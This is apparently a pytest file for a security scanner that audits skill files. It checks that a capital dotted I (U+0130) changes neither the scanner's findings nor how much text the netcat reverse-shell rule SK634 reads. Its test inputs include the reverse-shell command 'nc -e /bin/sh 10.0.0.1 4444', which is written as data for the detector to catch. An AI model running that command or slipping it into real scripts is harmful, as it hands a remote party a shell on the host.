"""A document holding a capital dotted I (U+0130, the one character whose lower case is two
characters long, so that the lower-cased text is longer than the folded text) is searched by each
gate's lowered search too, in :attr:`~skillsite.audit.text.Document.scanned` (the lower-cased text
where it reads as "i", every position the folded text's), not by the pattern itself at every
character of the folded text.  It is still searched whole, as before, so its findings are the
same; what the gates find there is tested in test_audit_lowered_search.py."""
from __future__ import annotations

import pytest

from skillsite.audit.engine import audit_document
from skillsite.audit.rules import RULES
from skillsite.audit.text import Gate, make_document
from test_audit_heredoc_hijacks import CountingPattern, CountingText

#: SK634's netcat handing a shell (a hopeless gate, searched through its lowered search).
NETCAT = next(p for p in RULES["SK634"].patterns if p.hopeless and p.hopeless[0].startswith(r"\b(?:nc|"))


def counted(gate: Gate) -> Gate:
    """The gate, its pattern counting in ``CountingText.read`` the characters its searches are given."""
    return Gate(**{**gate.__dict__, "pattern": CountingPattern(gate.pattern)})


@pytest.mark.parametrize("dotted", ["\u0130", "I"])
def test_the_pattern_reads_only_around_the_candidates_of_a_document_with_a_dotted_i(dotted):
    text = f"{dotted}\n" + "echo -e x | nc\n" * 5000 + "nc -e /bin/sh 10.0.0.1 4444\n"
    gate, doc = counted(NETCAT.gate), make_document("scripts/run.sh", text)
    CountingText.read = 0
    found = [m.span() for m in gate._matches(doc, 0, len(doc.folded))]
    start = text.index("nc -e /bin/sh")
    assert found == [(start, start + len("nc -e /bin/sh"))]
    assert CountingText.read <= len(text) // 10   # the pattern tried at its one candidate: before, all of it


def test_a_document_with_a_dotted_i_has_the_findings_of_one_without():
    text = "Run this:\n\n" + "echo -e x | nc\n" * 500 + "nc -e /bin/sh 10.0.0.1 4444\n"
    without = [(f.code, f.line) for f in audit_document("SKILL.md", "I\n" + text)]
    assert [(f.code, f.line) for f in audit_document("SKILL.md", "\u0130\n" + text)] == without
    assert ("SK634", 504) in without
